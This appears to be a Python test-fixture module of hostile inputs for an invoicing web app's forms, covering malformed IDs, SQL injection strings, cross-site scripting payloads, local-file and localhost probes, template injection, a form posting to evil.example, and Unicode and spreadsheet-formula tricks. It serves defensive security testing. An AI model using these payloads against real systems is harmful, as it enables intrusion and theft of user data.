"""What someone hostile, or only unlucky, types into fields, addresses and forms (F73-F75, F79)."""

IDS = (
    "-1",
    "0",
    "1e9",
    "9" * 40,
    "9" * 5000,  # int() refuses more than 4300 digits
    "1_000",
    "１２",  # full width
    "١٢",  # Arabic-Indic
    "²",  # a digit to str.isdigit
    "1;DROP TABLE invoices_invoice",
    "1 OR 1=1",
    "' OR ''='",
    "0x10",
    "+1",
    "1.0",
    " 1",
    "1\n2",
    "NaN",
    "true",
    "null",
    "\x00",
    "1\x00",
    "[1]",
    "%31",
    "../1",
    "<script>",
    "9223372036854775807",
    "9223372036854775808",
)

SQL = (
    "'",
    '"',
    "' OR '1'='1",
    "'; DROP TABLE invoices_invoice; --",
    "1) OR (1=1",
    "' UNION SELECT password FROM accounts_user --",
    "\\'; --",
    "$$; SELECT pg_sleep(5); --",
    "%' AND 1=(SELECT COUNT(*) FROM accounts_user) --",
    "') AS x FROM accounts_user --",
    "%",
    "_____",
    "\\",
    "client__name",
    "job__project_manager__password",
    "?",
    "%s%s%s",
    "{0}",
    "\x00",
    "\ud7ff￿",
    "a" * 5000,
)

NAMES = ("client__name", "pk", "id", "id__in", "_connector", "job__project_manager__password__startswith", "q__regex")

SCRIPTS = (
    "<script>window.hacked=1</script>",
    '"><img src=x onerror=window.hacked=1>',
    "' onmouseover='window.hacked=1",
    "</textarea></title></style><svg/onload=window.hacked=1>",
    '<a href="javascript:window.hacked=1">pay</a>',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<img src="file:///etc/hostname"><object data="http://127.0.0.1:9/">',
    "<style>*{background:url(http://127.0.0.1:9/)}</style>",
    '{{ 7|add:"7" }}{% include "base.html" %}',
    "&lt;b&gt;&amp;amp;",
    "%s %(total)s %d {0} {total} $total",
    "<!-- --> ]]> <![CDATA[",
    "<template><form action=//evil.example><button>OK, process",
)

UNICODE = (
    "\u202e00.001 latoT\u202c",  # right to left
    "\u2066isolated\u2069 \u200fmark",
    "👩‍👩‍👧 🏗️ 🇨🇦",
    "Zoe\u0308 or Zoë",
    "zero\u200bwidth\u200dand\ufeffmark",
    "two\u2028lines\u2029here",
    "אלף 12.00 ﷺ",
    "Ａ１ 𝕏 ﬁ",
    "\u00a0=1+1",
    "=HYPERLINK(1)",
    'O\'Brien; \\N, "said"',
    "Z" + "\u0301" * 40,
)

TEXTS = (*SCRIPTS, *UNICODE)
